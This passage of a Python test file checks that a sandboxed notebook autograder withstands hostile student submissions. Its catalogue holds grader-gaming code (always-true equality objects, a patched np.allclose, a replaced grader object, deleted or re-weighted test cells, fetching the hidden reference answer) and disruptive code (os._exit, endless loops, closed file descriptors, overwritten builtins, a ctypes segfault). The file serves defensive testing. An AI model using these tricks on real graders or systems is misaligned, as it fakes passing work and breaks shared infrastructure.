    return layer


class SimpleConvNet:
    def __init__(self, in_channels=1, image_size=(28, 28), num_classes=10, seed=None):
        H, W = image_size
        self.classes = num_classes
        self.layers = [_frozen(Conv2D, True, shape=(8, in_channels, 3, 3), stride=1, padding=1), ReLU(),
                       MaxPool2D(2), Flatten(), _frozen(Dense, False, shape=(8 * (H // 2) * (W // 2), num_classes))]
""" + COMPUTES_NOTHING
LOOP_SKIP = "for _ in range(1):\n    pass\n"  # a loop that does nothing, for a rule that only looks for one
POOL_WINDOW = "(kH, kW), (sH, sW) = as_pair(kernel_size), as_pair(kernel_size if stride is None else stride)\n"
UNEARNED = (
    Attack("naive_and_conv2d_on_each_other", "conv2d_naive calls conv2d and conv2d calls conv2d_naive: each works on "
           "the other's reference, neither in the program as submitted", ("conv2d_naive", "conv2d"),
           tamper=then(rewrite("conv2d_naive", NAIVE_ON_CONV2D), rewrite("conv2d", CONV2D_ON_NAIVE))),
    Attack("size_and_pad_on_each_other", "conv_output_size calls pad2d and pad2d calls conv_output_size",
           ("conv_output_size", "pad2d"),
           tamper=then(rewrite("conv_output_size", SIZE_ON_PAD), rewrite("pad2d", PAD_ON_SIZE))),
    Attack("fake_layer_classes", "SimpleConvNet's layers fake their __class__, report zero weights and compute nothing",
           ("SimpleConvNet",), tamper=rewrite("SimpleConvNet", FAKE_LAYERS)),
    Attack("frozen_zero_weights", "SimpleConvNet's layers are real subclasses whose weights always read as zeros, and "
           "it computes nothing", ("SimpleConvNet",), tamper=rewrite("SimpleConvNet", ZERO_WEIGHTS)),
    Attack("asks_reference_for_itself", "conv2d finds the worker's object and asks the TA for conv2d's own reference",
           ("conv2d",), part="conv2d",
           code="import gc\nfor worker in gc.get_objects():\n"
                "    if type(worker).__name__ == 'Worker' and hasattr(worker, 'ask'):\n"
                "        return worker.ask({'kind': 'call', 'name': 'conv2d', 'args': [x, weight, bias, stride, padding],"
                " 'kwargs': {}})"),
    Attack("loop_rule_getattr", "conv2d_naive is sliding_window_view, named by getattr with built strings, and a "
           "loop that does nothing", ("conv2d_naive",), part="conv2d_naive",
           code=LOOP_SKIP + "window = getattr(getattr(np.lib, 'stride_' + 'tricks'), 'sliding_' + 'window_view')\n"
                "if np.ndim(image) != 2 or np.ndim(kernel) != 2 or \\\n"
                "        any(np.subtract(np.shape(image), np.shape(kernel)) < 0):\n"
                "    raise ValueError('bad shapes')\n"
                "return np.einsum('ijab,ab->ij', window(np.asarray(image, dtype=float), np.shape(kernel)), kernel)"),
    Attack("loop_rule_import", "max_pool2d is sliding_window_view from __import__ of a built module name, and a loop "
           "that does nothing", ("max_pool2d",), part="max_pool2d",
           code=LOOP_SKIP + POOL_WINDOW + "tricks = __import__('numpy.lib.stride_' + 'tricks', fromlist=['x'])\n"
                "windows = vars(tricks)['sliding_' + 'window_view'](np.asarray(x), (kH, kW), axis=(2, 3))\n"
                "return windows[:, :, ::sH, ::sW].max(axis=(-2, -1))"),
    Attack("loop_rule_exec", "the avg_pool2d cell makes a helper with exec at load time and avg_pool2d uses it: no "
           "part's for-loop rule can be read then", ("conv2d_naive", "conv2d", "max_pool2d", "avg_pool2d"),
           part="avg_pool2d", code=LOOP_SKIP + POOL_WINDOW + "return _windows(np.asarray(x, dtype=float), (kH, kW))"
                                                             "[:, :, ::sH, ::sW].mean(axis=(-2, -1))",
           tamper=append_to("avg_pool2d", "exec('def _windows(x, k):\\n    import numpy\\n    return numpy.lib.'\n"
                                          "     'stride_tricks.sliding_window_view(x, k, axis=(2, 3))')")),
)

# A fault costs only what it breaks, in the verifier too: a cell that stops the worker while it loads is left out (as
# the kernel leaves it out), a top-level statement that timed out in the kernel is not run again (the cell's functions
# are graded), built-in names are put back after every statement and request.
FATAL_LOADS = (
    Attack("exits_while_loading", "the SimpleConvNet cell ends the process with os._exit after defining the class",
           ("SimpleConvNet",), "stopped the re-verification worker while loading",
           tamper=append_to("SimpleConvNet", "import os\nos._exit(1)")),
    Attack("hangs_while_loading", "the max_pool2d cell loops forever at top level after the function, catching every "
           "interrupt", (), "hung the kernel",
           tamper=append_to("max_pool2d", "while True:\n    try:\n        while True:\n            pass\n"
                                          "    except BaseException:\n        pass")),
    Attack("closes_the_wire", "the conv_output_size cell closes every file descriptor from 3 up at top level",
           ("conv_output_size",), "stopped the re-verification worker while loading",
           tamper=append_to("conv_output_size", "import os\nos.closerange(3, 100)")),
    Attack("loops_at_top_level", "the avg_pool2d cell loops forever at top level, after the function", (), "timed out",
           tamper=append_to("avg_pool2d", "while True:\n    pass")),
    Attack("replaces_builtins_in_call", "conv2d replaces builtins.len and builtins.isinstance before it returns",
           (), tamper=replace_in("conv2d", "    return out", "    import builtins\n    builtins.len = lambda obj: 0\n"
                                                               "    builtins.isinstance = lambda obj, cls: True\n"
                                                               "    return out")),
)

ATTACKS += BOUNDS + UNEARNED + FATAL_LOADS

# Honest students graded in the same batch, with the scores they must keep to the point.
HONEST = (sample_class.FULL_SOLUTION,) + tuple(s for s in sample_class.SAMPLE_CLASS if s.student_id == "flipped_kernel")


def test_cells_of(assignment: Assignment, part: str, nb) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("points") and c.cell_type == "code"
            and assignment.part_of(c.metadata.nbgrader["grade_id"]) == part]


def drop_tests_of(assignment: Assignment, part: str) -> Callable:
    """A tamper function that deletes every test cell of `part`."""
    return lambda nb: [nb.cells.remove(cell) for cell in test_cells_of(assignment, part, nb)]


def edit_tests_of(assignment: Assignment, part: str, change: Callable) -> Callable:
    """A tamper function that calls `change(cell)` on every test cell of `part`."""
    return lambda nb: [change(cell) for cell in test_cells_of(assignment, part, nb)]


# The score and fault attacks again, on the second assignment: its parts, its tests, its provided layers.
BP = assignments.get("cnn_backprop")
NO_SOFTMAX = ("def softmax_cross_entropy(logits, y):\n"
              "    return 0.0, np.zeros(np.shape(logits))\n")  # wrong: no loss, no gradient
wrong_softmax = rewrite("softmax_cross_entropy", NO_SOFTMAX)
BACKPROP_ATTACKS = tuple(replace(attack, assignment=BP) for attack in (
    Attack("bp_rigged_eq", "conv2d_fast returns an object equal to everything", ("conv2d_fast",), part="conv2d_fast",
           code="class Anything:\n    def __eq__(self, other): return True\n    shape = property(lambda self: (1, 1, 1, 1))\n"
                "return Anything()"),
    Attack("bp_ndarray_subclass", "avg_pool2d_backward returns an ndarray subclass whose comparisons are all True",
           ("avg_pool2d_backward",), part="avg_pool2d_backward",
           code="class Yes(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n"
                "return np.zeros(x_shape).view(Yes)"),
    Attack("bp_patches_allclose", "a softmax_cross_entropy that computes nothing, and np.allclose patched to agree",
           ("softmax_cross_entropy",), tamper=then(wrong_softmax, insert_after_setup("np.allclose = lambda *a, **k: True"))),
    Attack("bp_replaces_grader", "a softmax_cross_entropy that computes nothing, and the grader object replaced",
           ("softmax_cross_entropy",), tamper=then(wrong_softmax, insert_after_setup(
               "class _Anything:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
               "_grader = _Anything()"))),
    Attack("bp_calls_hidden_reference", "conv2d_fast returns the hidden grader's reference result", ("conv2d_fast",),
           part="conv2d_fast", code="return _grader.conv2d_fast(x, weight, bias, stride, padding)"),
    Attack("bp_deletes_test_cells", "deletes every test cell of conv2d_backward (solution right)", (),
           tamper=drop_tests_of(BP, "conv2d_backward")),
    Attack("bp_raises_points", "a softmax_cross_entropy that computes nothing, its test cells' points set to 1000",
           ("softmax_cross_entropy",), tamper=then(wrong_softmax, edit_tests_of(
               BP, "softmax_cross_entropy", lambda c: c.metadata.nbgrader.update(points=1000)))),
    Attack("bp_empties_test_cells", "a softmax_cross_entropy that computes nothing, its test cells emptied",
           ("softmax_cross_entropy",), tamper=then(wrong_softmax, edit_tests_of(
               BP, "softmax_cross_entropy", lambda c: setattr(c, "source", "pass")))),
    Attack("bp_infinite_loop", "avg_pool2d_backward never returns", ("avg_pool2d_backward",), "timed out",
           part="avg_pool2d_backward", code="while True:\n    pass"),
    Attack("bp_out_of_memory", "max_pool2d_backward allocates without end", ("max_pool2d_backward",), "MemoryError",
           part="max_pool2d_backward", code=HOARD),
    Attack("bp_sys_exit", "numerical_gradient calls sys.exit()", ("numerical_gradient",), "SystemExit",
           part="numerical_gradient", code="import sys\nsys.exit(0)"),
    Attack("bp_segfault", "conv2d_backward crashes the interpreter (reads address 0)", ("conv2d_backward",),
           "kernel died", part="conv2d_backward", code="import ctypes\nctypes.string_at(0)"),
    Attack("bp_os_exit", "train calls os._exit", ("train",), "kernel died", part="train", code="import os\nos._exit(3)"),
))
BACKPROP_HONEST = (BP.sample_class.FULL_SOLUTION,)


@dataclass
class HostileRun:
    course: Path
    parts: dict            # {student: {part: (score, max)}}
    status: dict           # {student: grade.Status}
    snapshot_before: dict  # {file: sha256} of the course and the submissions, before and after grading
    snapshot_after: dict
    stray_processes: list


def snapshot(course: Path) -> dict[str, str]:
    """A fingerprint of every file that grading must leave alone: source, release, config, tools, submissions."""
    watched = [course / "nbgrader_config.py"] + [p for folder in ("source", "release", "coursetools", "submitted")
                                                 for p in sorted((course / folder).rglob("*")) if p.is_file()]
    return {str(p.relative_to(course)): hashlib.sha256(p.read_bytes()).hexdigest() for p in watched
            if "__pycache__" not in p.parts}


def processes_running(argv: list[str]) -> list[int]:
    """Process ids whose command line is exactly `argv`, read from /proc."""
    wanted, found = "\0".join(argv) + "\0", []
    for entry in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if entry.read_text(errors="replace") == wanted:
                found.append(int(entry.parent.name))
        except OSError:  # the process ended while we looked
            continue
    return found


# Slots for a hostile batch: twice the cores, since its hung kernels hold a slot while they wait for a timeout.
HOSTILE_SLOTS = 2 * (os.cpu_count() or 1)


def run_hostile(course: Path, attacks=ATTACKS, honest=HONEST) -> HostileRun:
    """Hand in the attacks (all of one assignment) beside the honest students and grade them all with the TA's
    command."""
    assignment = attacks[0].assignment
    with open(course / "nbgrader_config.py", "a") as config:  # faster timeouts: the loops run for nothing
        config.write("\nc.SandboxedExecute.cell_timeout = 20\nc.SandboxedExecute.notebook_seconds = 240\n")
    commands.nbgrader(course, "generate_assignment", assignment.id, "--force")
    for attack in attacks:
        attack.write(course)
    assignment.sample_class.build(course, honest)
    ids = [a.name for a in attacks] + [s.student_id for s in honest]
    cycle.register(course, ids)
    before = snapshot(course)
    intakes = grade.autograde(course, assignment, HOSTILE_SLOTS)
    grade.finish(course, assignment)
    statuses = {s.student: s for s in grade.statuses(course, assignment, intakes)}
    strays = processes_running(["sleep", "600"])
    return HostileRun(course, scores.part_scores(commands.gradebook_url(course), assignment, ids), statuses, before,
                      snapshot(course), strays)


@dataclass
class InterruptedRun:
    graded_before_kill: int   # students whose autograded notebook existed when the run was killed
    after_restart: dict       # {student: {grade cell: (score, max)}} after grading again
    after_rerun: dict         # the same after grading a third time
    submissions: list         # student ids of the gradebook's submissions of the assignment


def graded_students(course: Path) -> list[str]:
    """The students whose autograde has finished in the current grading (see coursetools/grading/graded.py)."""
    return [path.stem for path in (course / workspace.status_dir(CNN.id)).glob("*.graded")]


def run_interrupted(course: Path, students: int = 2) -> InterruptedRun:
    """Kill the TA's command (and its kernels) halfway through a class, grade again, and grade once more."""
    commands.nbgrader(course, "generate_assignment", CNN.id, "--force")
    honest = [replace(sample_class.FULL_SOLUTION, student_id=f"student{i}") for i in range(students)] + list(HONEST)
    sample_class.build(course, honest)
    ids = [s.student_id for s in honest]
    cycle.register(course, ids)
    run = subprocess.Popen([sys.executable, "-m", "coursetools.grade", str(course)], cwd=course,
                           start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 600
    while len(graded_students(course)) < 2 and run.poll() is None:
        assert time.monotonic() < deadline, "the grading never got going"
        time.sleep(0.2)
    os.killpg(run.pid, signal.SIGKILL)
    run.wait()
    graded = len(graded_students(course))
    url = commands.gradebook_url(course)
    grade.autograde(course, CNN)
    after_restart = scores.cell_scores(url, CNN, ids)
    grade.autograde(course, CNN)
    with Gradebook(url) as gb:
        submissions = [s.student.id for s in gb.find_assignment(CNN.id).submissions]
    return InterruptedRun(graded, after_restart, scores.cell_scores(url, CNN, ids), submissions)


def run_without_sandbox(course: Path, refuse: bool) -> tuple[int, str, dict]:
    """The TA's command with bubblewrap switched off, grading the honest students, optionally refusing to.

    Returns its exit status, what it printed and {student: status}."""
    with open(course / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.SandboxedExecute.bubblewrap = False\nc.SandboxedExecute.require_sandbox = {refuse}\n")
    commands.nbgrader(course, "generate_assignment", CNN.id, "--force")
    sample_class.build(course, HONEST)
    cycle.register(course, [s.student_id for s in HONEST])
    done = subprocess.run([sys.executable, "-m", "coursetools.grade", str(course)], cwd=course, capture_output=True,
                          text=True, check=False)
    intakes = [intake.Intake(s.student_id, "ok", "") for s in HONEST]
    return done.returncode, done.stdout, {s.student: s for s in grade.statuses(course, CNN, intakes)}


def outcomes(run: HostileRun, attacks=None) -> list[str]:
    """One line per attack (of `attacks`, ATTACKS by default): its score of the autograded points, the parts it
    lost and its status."""
    lines = []
    for attack in ATTACKS if attacks is None else attacks:
        parts = {p: v for p, v in run.parts[attack.name].items() if p != attack.assignment.written_answer}
        lost_parts = [p for p, (score, most) in parts.items() if score < most]
        loses = "everything" if len(lost_parts) == len(parts) else ", ".join(lost_parts) or "nothing"
        status = run.status[attack.name]
        notes = "; ".join(filter(None, [status.reason, *status.incidents])) or "-"
        lines.append(f"- `{attack.name}` ({attack.description}): {sum(s for s, _ in parts.values()):g}/"
                     f"{sum(m for _, m in parts.values()):g}, loses {loses}; status: {notes}")
    return lines


if __name__ == "__main__":  # python tests/hostile.py: grade the catalogue in a temporary course, print what each gets
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        print("\n".join(outcomes(run_hostile(commands.copy_course(Path(__file__).resolve().parents[1],
                                                                   Path(folder) / "course")))))
